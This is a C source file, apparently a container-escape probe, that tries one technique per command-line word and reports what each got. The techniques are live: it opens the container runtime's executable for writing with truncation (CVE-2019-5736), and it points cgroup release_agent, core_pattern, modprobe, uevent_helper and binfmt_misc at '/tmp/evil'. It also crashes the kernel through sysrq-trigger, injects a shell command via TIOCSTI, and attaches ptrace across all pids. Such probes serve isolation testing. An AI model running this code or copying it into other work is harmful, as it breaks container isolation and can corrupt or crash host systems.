/* Ways out of a container that have worked somewhere, one a word; each says what it got. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static void said(const char *what, long got)
{
	printf("%s: %s\n", what, got >= 0 ? "done" : strerror(errno));
}

static void descriptors(void)
{
	for (int fd = 0; fd < 4096; fd++) {
		struct stat s;
		if (fstat(fd, &s) == 0 && fd > 2)
			printf("descriptor %d is open\n", fd);
	}
}

/* CVE-2019-5736: the runtime's own executable, through whatever /proc calls exe. */
static void own_executable(void)
{
	DIR *d = opendir("/proc");
	for (struct dirent *e; (e = readdir(d));) {
		char path[300], is[300];
		snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
		ssize_t n = readlink(path, is, sizeof is - 1);
		if (n < 0)
			continue;
		is[n] = 0;
		int fd = open(path, O_WRONLY | O_TRUNC);
		printf("%s -> %s: %s\n", path, is, fd < 0 ? strerror(errno) : "open for writing");
	}
}

static void abstract(const char *name)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	size_t n = strlen(name);
	memcpy(a.sun_path + 1, name, n);
	for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type++) {
		int s = socket(AF_UNIX, type, 0);
		if (s >= 0)
			said("abstract", connect(s, (void *)&a, offsetof(struct sockaddr_un, sun_path) + 1 + n));
	}
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	long got = fd < 0 ? fd : write(fd, text, strlen(text));
	said(path, got);
	if (fd >= 0)
		close(fd);
}

/* CVE-2022-0492 and its relatives: files that name a program the host's kernel runs. */
static void helpers(void)
{
	const char *types[] = {"cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "binfmt_misc", "configfs", "efivarfs", "bpf"};
	mkdir("/tmp/m", 0700);
	for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
		long got = mount(types[i], "/tmp/m", types[i], 0, i ? NULL : "memory");
		int e = errno;
		if (got == 0) {
			put("/tmp/m/release_agent", "/tmp/evil");
			put("/tmp/m/register", ":x:M::XX::/tmp/evil:");
			umount2("/tmp/m", MNT_DETACH);
		}
		errno = e;
		printf("mount ");
		said(types[i], got);
	}
	put("/proc/sys/kernel/core_pattern", "|/tmp/evil");
	put("/proc/sys/kernel/modprobe", "/tmp/evil");
	put("/proc/sys/kernel/hotplug", "/tmp/evil");
	put("/proc/sys/vm/panic_on_oom", "1");
	put("/proc/sysrq-trigger", "c");
	put("/proc/sys/fs/binfmt_misc/register", ":x:M::XX::/tmp/evil:");
	put("/sys/kernel/uevent_helper", "/tmp/evil");
	put("/sys/fs/cgroup/release_agent", "/tmp/evil");
	put("/sys/fs/cgroup/cgroup.procs", "1");
	put("/sys/kernel/mm/transparent_hugepage/enabled", "never");
}

static void push_input(void)
{
	const char *text = "touch /evil\n";
	long got = 0;
	for (const char *p = text; *p && got >= 0; p++)
		got = ioctl(0, TIOCSTI, p);
	said("TIOCSTI", got);
	char what = 3; /* TIOCL_SETSEL and TIOCL_PASTESEL, of the console */
	said("TIOCLINUX", ioctl(0, TIOCLINUX, &what));
}

static void trace(void)
{
	int reached = 0;
	for (int pid = 1; pid < 70000; pid++) {
		char byte;
		struct iovec ours = {&byte, 1}, theirs = {(void *)0x400000, 1};
		if (pid == getpid())
			continue;
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 || process_vm_readv(pid, &ours, 1, &theirs, 1, 0) > 0)
			reached++;
	}
	printf("reached %d\n", reached);
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(what, "descriptors"))
		descriptors();
	else if (!strcmp(what, "executable"))
		own_executable();
	else if (!strcmp(what, "abstract"))
		abstract(argv[2]);
	else if (!strcmp(what, "helpers"))
		helpers();
	else if (!strcmp(what, "push"))
		push_input();
	else if (!strcmp(what, "trace"))
		trace();
	else
		return 2;
	return 0;
}
